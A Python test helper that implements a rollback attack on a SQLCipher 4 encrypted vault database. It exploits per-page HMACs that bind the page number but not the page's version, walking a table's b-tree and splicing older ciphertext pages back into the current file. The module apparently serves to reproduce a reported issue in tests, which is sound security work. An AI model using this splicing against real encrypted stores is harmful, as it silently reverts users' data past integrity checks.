"""The attack of issue 12 as a tool for tests: copy older SQLCipher pages of one table back
into ``vault.db``.

SQLCipher 4 (raw key, as the vault opens it): 4096-byte pages, each AES-256-CBC over all
but its last 80 bytes (page 1 keeps its first 16 bytes, the salt, in the clear) with the
IV in the first 16 of those 80 and an HMAC-SHA512 over the page and its number in the
rest.  The HMAC covers the page number, not the page's version, which is the weakness:
page N of an older copy passes at position N of the current file.

Here pages are decrypted only to find which belong to a table (its b-tree from
``sqlite_master.rootpage`` down to the leaves and their overflow chains); the pages
copied back are the older file's ciphertext, untouched.
"""

from __future__ import annotations

import shutil
from pathlib import Path

from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

PAGE = 4096
RESERVE = 80  # IV 16 + HMAC-SHA512 64
USABLE = PAGE - RESERVE


def _plain(raw: bytes, key: bytes, number: int) -> bytes:
    start = 16 if number == 1 else 0
    iv = raw[USABLE : USABLE + 16]
    decryptor = Cipher(algorithms.AES(key), modes.CBC(iv)).decryptor()
    body = decryptor.update(raw[start:USABLE]) + decryptor.finalize()
    return (b"SQLite format 3\x00" if number == 1 else b"") + body


def _varint(data: bytes, at: int) -> tuple[int, int]:
    value = 0
    for i in range(9):
        byte = data[at + i]
        if i == 8:
            return (value << 8) | byte, at + 9
        value = (value << 7) | (byte & 0x7F)
        if not byte & 0x80:
            return value, at + i + 1
    raise AssertionError("unreachable")


def _local_size(payload: int, leaf_table: bool) -> int:
    max_local = USABLE - 35 if leaf_table else (USABLE - 12) * 64 // 255 - 23
    min_local = (USABLE - 12) * 32 // 255 - 23
    if payload <= max_local:
        return payload
    size = min_local + (payload - min_local) % (USABLE - 4)
    return size if size <= max_local else min_local


def table_pages(db: Path, key: bytes, root: int, leaves_only: bool = False) -> set[int]:
    """Every page of the b-tree rooted at ``root`` in ``db``: interior, leaf, overflow
    (with ``leaves_only``, the leaves and their overflow pages)."""
    data = db.read_bytes()

    def page(number: int) -> bytes:
        return _plain(data[(number - 1) * PAGE : number * PAGE], key, number)

    found: set[int] = set()
    todo = [root]
    while todo:
        number = todo.pop()
        plain = page(number)
        head = 100 if number == 1 else 0
        kind = plain[head]
        cells = int.from_bytes(plain[head + 3 : head + 5], "big")
        interior = kind in (0x02, 0x05)
        if not (interior and leaves_only):
            found.add(number)
        pointers = head + (12 if interior else 8)
        if interior:
            todo.append(int.from_bytes(plain[head + 8 : head + 12], "big"))
        for i in range(cells):
            at = int.from_bytes(plain[pointers + 2 * i : pointers + 2 * i + 2], "big")
            if interior:
                todo.append(int.from_bytes(plain[at : at + 4], "big"))
                if kind == 0x05:
                    continue  # table interior cells hold a key, no payload
                at += 4
            payload, at = _varint(plain, at)
            if kind == 0x0D:
                _rowid, at = _varint(plain, at)
            local = _local_size(payload, kind == 0x0D)
            if local < payload:
                overflow = int.from_bytes(plain[at + local : at + local + 4], "big")
                while overflow:
                    found.add(overflow)
                    overflow = int.from_bytes(page(overflow)[:4], "big")
    return found


def splice_table(
    old: Path, new: Path, key: bytes, root: int, leaves_only: bool = False
) -> list[int]:
    """Copy back into ``new`` the pages of the table rooted at ``root`` that differ from
    ``old`` (with ``leaves_only``, leaves only: the rows of one page go back in time, the
    tree above them stays current); return their numbers (empty: nothing differed)."""
    before, after = old.read_bytes(), bytearray(new.read_bytes())
    pages = table_pages(new, key, root, leaves_only)
    if leaves_only:
        # Only pages that were leaves of this table then too: a page number that held an
        # index or a free page before (random ids split indexes differently each run)
        # would put foreign bytes under the tree instead of its own older rows.
        pages &= table_pages(old, key, root, leaves_only)
    changed = []
    for number in sorted(pages):
        span = slice((number - 1) * PAGE, number * PAGE)
        if number * PAGE <= len(before) and before[span] != after[span]:
            after[span] = before[span]
            changed.append(number)
    new.write_bytes(bytes(after))
    return changed


def snapshot(vault_dir: Path, to: Path) -> Path:
    """A copy of a closed vault's database (no write-ahead log may be left beside it)."""
    assert (
        not (vault_dir / "vault.db-wal").exists() or not (vault_dir / "vault.db-wal").stat().st_size
    ), "close the vault first: its log holds pages"
    shutil.copy2(vault_dir / "vault.db", to)
    return to
